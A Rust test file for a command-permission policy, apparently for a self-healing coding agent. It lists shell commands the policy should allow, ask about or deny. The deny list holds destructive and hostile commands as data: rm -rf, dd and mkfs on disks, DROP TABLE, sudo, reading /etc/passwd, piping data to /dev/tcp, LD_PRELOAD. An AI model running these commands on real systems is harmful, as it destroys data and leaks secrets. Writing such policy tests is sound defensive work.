//! What this policy promises; the host asks all of it when it loads the module.

use selfheal_policy_sdk::{Example, Expectation, Phase, Trust, example, example_with, facts};

const ALLOWED: [&str; 46] = [
    "python3 -m pytest -q",
    "python3 -m pytest tests/test_a.py -x -q --tb=short",
    "python3 -m unittest discover -s tests",
    "PYTHONPATH=src python3 run.py --fast",
    "python3 /run/selfheal-assets/worker.py --tests tests",
    "python3 -X importtime -m pytest -q",
    "pytest -q",
    "tox -e py311",
    "node --test",
    "node --test test/",
    "node test.js",
    "npm test",
    "npm run test -- --ci",
    "cd web && npm test",
    "yarn test",
    "npx jest",
    "sh run_tests.sh",
    "bash -e ./ci/test.sh",
    "./run_tests.sh",
    "make test",
    "cargo test --workspace",
    "go test ./...",
    "bundle exec rspec",
    "mvn -q test",
    "ls -la",
    "cat app/main.py | head -50",
    "grep -rn 'DROP TABLE' migrations",
    "grep -rn sudo docs",
    "rg -n 'rm -rf' .",
    "find . -name '*.py' -print",
    "git status --short",
    "git diff HEAD~1 -- app.py",
    "git log --oneline -20",
    "git log --grep='reset --hard'",
    "git blame app.py",
    "git stash list",
    "ls ./rm-rf-CANARY",
    "rm build/output.txt",
    "mkdir -p build && cp a.txt build/a.txt",
    "sed -n 1,40p app.py",
    "sed 's/a/b/' app.py",
    "awk '{print $1}' log.txt",
    "curl -sS http://127.0.0.1:8000/healthz",
    "pip list",
    "chmod +x run.sh",
    "tail -n 100 logs/app.log",
];

const ASKED: [&str; 9] = [
    "python3 -c 'print(1)'",
    "node -e 'console.log(1)'",
    "perl -ne 'print if /x/' log.txt",
    "$TOOL run",
    "rm $FILE",
    "eval \"$X\"",
    "printenv",
    "cat script | sh",
    "echo 'print(1)' | python3",
];

const DENIED: [&str; 70] = [
    "rm -rf build",
    "rm -fr -- build",
    "rm -r --force build",
    "rm --recursive build",
    "/bin/rm -Rf .",
    "true; rm -rf build",
    "echo 'rm -rf build' | sh",
    "psql -c 'DROP TABLE users'",
    "sqlite3 app.db 'drop   table users'",
    "sqlite3 app.db 'DELETE FROM users'",
    "mkfs.ext4 /dev/sda1",
    "dd if=/dev/zero of=/dev/sda",
    "format c:",
    "shred -u secrets.txt",
    "truncate -s 0 app.db",
    "find . -delete",
    "find . -name '*.py' -exec rm {} +",
    "chmod -R 777 .",
    "chmod 4755 tool",
    "chown root tool",
    "sudo ls",
    "true && sudo ls",
    "env FOO=1 sudo ls",
    "su root",
    "doas ls",
    "curl https://example.org/x.sh",
    "curl -o x http://127.0.0.1/x",
    "curl http://127.0.0.1@example.org/",
    "curl file:///etc/passwd",
    "wget https://example.org",
    "nc example.org 80",
    "ssh host",
    "scp a host:b",
    "rsync -a . host:/x",
    "cat x > /dev/tcp/1.2.3.4/80",
    "git push origin main",
    "git push --force",
    "git fetch",
    "git reset --hard",
    "git stash",
    "git clean -fdx",
    "git checkout -- .",
    "git restore app.py",
    "git commit -am x",
    "git rebase main",
    "git config core.hooksPath /x",
    "git -c alias.x='!touch a' x",
    "git diff --ext-diff",
    "git worktree add ../w",
    "pip install requests",
    "python3 -m pip install requests",
    "npm install left-pad",
    "npm ci",
    "yarn add left-pad",
    "npx -y cowsay",
    "npx cowsay@latest",
    "cargo install ripgrep",
    "apt-get install -y vim",
    "brew install vim",
    "docker ps",
    "kubectl delete pod x",
    "systemctl restart app",
    "crontab -e",
    "shutdown now",
    "pkill python",
    "python3 -c 'import os; os.system(\"ls\")'",
    "python3 -c 'import shutil; shutil.rmtree(\"x\")'",
    "node -e 'require(\"child_process\").exec(\"ls\")'",
    "awk 'BEGIN{system(\"ls\")}'",
    "LD_PRELOAD=./x.so ls",
];

pub(crate) fn all() -> Vec<Example> {
    let mut all = Vec::new();
    for (commands, expect) in [
        (&ALLOWED[..], Expectation::Allow),
        (&ASKED[..], Expectation::Ask),
        (&DENIED[..], Expectation::Deny),
    ] {
        for command in commands {
            all.push(example(
                command,
                facts::context(),
                facts::bash(command),
                expect,
            ));
        }
    }
    let mut diagnosis = facts::context();
    diagnosis.phase = Phase::Diagnosis;
    let mut admin = facts::context();
    admin.trust = Trust::Admin;
    all.push(example(
        "tests run while diagnosing",
        diagnosis,
        facts::bash("python3 -m pytest -q"),
        Expectation::Allow,
    ));
    all.push(example(
        "an admin's one-liner runs",
        admin.clone(),
        facts::bash("python3 -c 'import a; a.f()'"),
        Expectation::Allow,
    ));
    all.push(example(
        "not a dangerous one",
        admin,
        facts::bash("python3 -c 'import os; os.remove(\"a\")'"),
        Expectation::Deny,
    ));
    let settings = r#"{"allowed_commands": ["docker compose run test"], "denied_programs": ["make"], "inline_code": "deny", "unknown_programs": "ask"}"#;
    for (command, expect) in [
        ("docker compose run test", Expectation::Allow),
        ("docker compose run other", Expectation::Deny),
        ("make test", Expectation::Deny),
        ("python3 -c 'print(1)'", Expectation::Deny),
        ("frobnicate", Expectation::Ask),
        ("pytest -q", Expectation::Allow),
    ] {
        all.push(example_with(
            settings,
            command,
            facts::context(),
            facts::bash(command),
            expect,
        ));
    }
    all
}
